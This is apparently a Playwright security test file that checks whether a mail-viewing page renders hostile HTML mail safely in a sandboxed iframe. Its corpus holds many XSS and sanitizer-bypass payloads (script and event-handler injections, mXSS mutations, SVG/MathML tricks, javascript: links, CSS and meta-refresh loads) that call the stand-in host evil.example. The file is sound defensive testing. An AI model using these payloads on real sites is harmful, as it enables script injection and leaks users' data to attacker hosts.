/** Mails that mean harm, in the page that shows mails, in a real browser: nothing runs, leaves or leads away. */
import type { KeptMail } from '@parley/contract/mail';
import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures/test.ts';

const mark = 'top.document.documentElement.dataset.pwned=1';
const away = 'https://evil.example';

/** How others were broken into, from the collections of sanitizers: mXSS, SVG, style, form, base and the rest. */
const corpus: Readonly<Record<string, string>> = {
  script: `<script>${mark}</script><script src="${away}/x.js"></script>`,
  handler: `<img src=x onerror="${mark}"><body onload="${mark}"><div onpointerover="${mark}" style="width:900px">x</div>`,
  svg: `<svg onload="${mark}"><script>${mark}</script><a xlink:href="javascript:${mark}"><text y=9>x</text></a><image href="${away}/i.svg"/><use href="${away}/u#a"/></svg>`,
  math: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${mark}&gt;">`,
  mutation: `<noscript><p title="</noscript><img src=x onerror=${mark}>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=${mark}>`,
  comment: `<!--><img src=x onerror=${mark}>--><![CDATA[<img src=x onerror=${mark}>]]><?xml x?><img src=x onerror=${mark}>`,
  textarea: `<textarea></textarea><img src=x onerror=${mark}><title></title><xmp></xmp><plaintext><b onclick="${mark}">x`,
  template: `<template><script>${mark}</script></template><div shadowrootmode="open"><slot></slot></div>`,
  style: `<style>@import "${away}/a.css";*{background:url(${away}/b.png)}</style><link rel=stylesheet href="${away}/c.css"><p style="background:url(${away}/d.png);position:fixed;inset:0;z-index:9">style</p><p style="background-image:image-set('${away}/e.png' 1x);--a:url(${away}/f)">x</p>`,
  escape: `<p style="color:red}</style><img src=x onerror=${mark}>">x</p><p style="width:expression(${mark});behavior:url(${away}/g.htc);-moz-binding:url(${away}/h)">x</p>`,
  frame: `<iframe src="${away}/i"></iframe><iframe srcdoc="<script>${mark}</script>"></iframe><object data="${away}/j"></object><embed src="${away}/k"><frameset><frame src="${away}/l"></frameset>`,
  form: `<form action="${away}/m"><input name=password autofocus onfocus="${mark}"><button formaction="javascript:${mark}">Send the form</button></form>`,
  base: `<base href="${away}/"><a href="n">A page of the base</a><img src="o.png">`,
  refresh: `<meta http-equiv="refresh" content="0;url=${away}/p"><meta http-equiv=Content-Security-Policy content="script-src *">`,
  links: `<a href="javascript:${mark}">script</a> <a href="data:text/html,<script>${mark}</script>">data</a> <a href="${away}/q" target=_top>top</a> <a href="${away}/r" target=_blank ping="${away}/s">window</a> <a href="/settings/keys">ours</a>`,
  media: `<img src="${away}/t.png" srcset="${away}/u.png 2x"><picture><source srcset="${away}/v"></picture><video poster="${away}/w" src="${away}/x" autoplay></video><audio src="${away}/y" autoplay></audio><input type=image src="${away}/z"><table background="${away}/1"><tr><td background="${away}/2">x</table><img src="/api/v1/me">`,
  names: `<img name=body><a id=cookie><form id=documentElement><input name=attributes></form><a name=__proto__ id=__proto__>`,
  head: `<link rel=prefetch href="${away}/3"><link rel=dns-prefetch href="//evil.example"><link rel=preload as=image href="${away}/4"><link rel=manifest href="${away}/5"><script type=importmap>{"imports":{}}</script><script type=speculationrules>{"prefetch":[{"urls":["${away}/6"]}]}</script>`,
};

/** What leaves for elsewhere: the browser tells of what its policy keeps back as well, but does not ask for it. */
async function leavings(page: Page, own: string): Promise<readonly string[]> {
  const left: string[] = [];
  await page.context().route(
    (url) => url.origin !== own && url.protocol.startsWith('http'),
    (route) => {
      left.push(route.request().url());
      return route.abort();
    },
  );
  return left;
}

test('SEC-19 hostile mails run nothing, ask for nothing and lead nowhere', async ({ owner, seat, parley }) => {
  const { page, watch } = await seat(owner, '/sign-in');
  // What this test runs in the frames is kept from running, too; and what the browser reads is held to the policy.
  watch.allow(/403|Blocked script execution|Content Security Policy/);
  const mails: KeptMail[] = Object.entries(corpus).map(([name, html], index) => ({
    id: `019a0000-0000-7000-8000-0000000000${String(index).padStart(2, '0')}`,
    address: `<img src=x onerror=${mark}>@example.com`,
    subject: `Mail of ${name}`,
    text: `javascript:${mark} https://evil.example//x\n${html}`,
    html: `<html><body><h1>${name} begins</h1>${html}</body></html>`,
    createdAt: '2026-11-21T09:00:00.000Z',
  }));
  await page.route('**/api/v1/mailbox*', (route) => route.fulfill({ json: { data: mails, nextCursor: null } }));
  const left = await leavings(page, parley.url);
  const windows: string[] = [];
  page.context().on('page', (other) => windows.push(other.url()));

  await page.goto('/settings/mailbox');
  await expect(page.getByRole('heading', { name: 'Mail of script' })).toBeVisible();
  // As text: what is not an address of ours is no link.
  const links = await page
    .getByRole('main')
    .getByRole('link')
    .evaluateAll((all) => all.filter((link) => link.closest('li')).map((link) => (link as HTMLAnchorElement).href));
  expect(links.filter((href) => new URL(href).origin !== parley.url)).toEqual([]);

  const before = page.url();
  for (const name of Object.keys(corpus)) {
    const row = page.getByRole('listitem').filter({ has: page.getByRole('heading', { name: `Mail of ${name}` }) });
    await row.getByRole('button', { name: 'As it looks' }).click();
    const frame = row.locator('iframe');
    // No word in it: no script, no form, no window, no way out, no origin of ours.
    expect(await frame.getAttribute('sandbox'), name).toBe('');
    const content = frame.contentFrame();
    await expect(content.getByRole('heading', { name: `${name} begins` })).toBeVisible();
    const inside = await content.locator('html').evaluate((html) => ({
      dangerous: html.querySelectorAll(
        'script, svg, math, iframe, object, embed, form, input, button, base, link, img, video, audio, template, noscript, body meta, [href], [src], [srcset], [action], [background], [style], [id], [name]:not(meta)',
      ).length,
      handlers: [...html.querySelectorAll('*')].flatMap((element) =>
        element.getAttributeNames().filter((attribute) => attribute.startsWith('on')),
      ),
      origin: self.origin,
      loads: performance.getEntriesByType('resource').length,
    }));
    expect(inside, name).toEqual({ dangerous: 0, handlers: [], origin: 'null', loads: 0 });
    // Whatever there is to press is pressed.
    for (const target of await content.locator('u, p, td').all())
      await target.click({ timeout: 2_000 }).catch(() => {});
    await row.getByRole('button', { name: 'Text' }).click();
  }
  expect(page.url()).toBe(before);
  expect(await page.evaluate(() => document.documentElement.dataset['pwned'])).toBeUndefined();
  expect([left, windows]).toEqual([[], []]);
});

test('SEC-19 even a mail that nobody cleaned can do nothing in the frame', async ({ owner, seat, parley }) => {
  const { page, watch } = await seat(owner, '/settings/profile');
  // The browser says what it refuses, and names what it never asks for: that is in `left`.
  watch.allow(/Content Security Policy|Blocked|sandbox|ERR_BLOCKED|csp|Unsafe attempt|origin GET https:\/\/evil/i);
  const left = await leavings(page, parley.url);
  for (const [name, html] of Object.entries(corpus)) {
    await page.evaluate((source) => {
      document.querySelector('#hostile')?.remove();
      const frame = Object.assign(document.createElement('iframe'), { id: 'hostile', srcdoc: source });
      frame.setAttribute('sandbox', '');
      document.body.append(frame);
      return new Promise((resolve) => {
        frame.addEventListener('load', resolve, { once: true });
      });
    }, html);
    expect(await page.evaluate(() => document.documentElement.dataset['pwned']), name).toBeUndefined();
  }
  expect(left).toEqual([]);
  expect(new URL(page.url()).origin).toBe(parley.url);
});
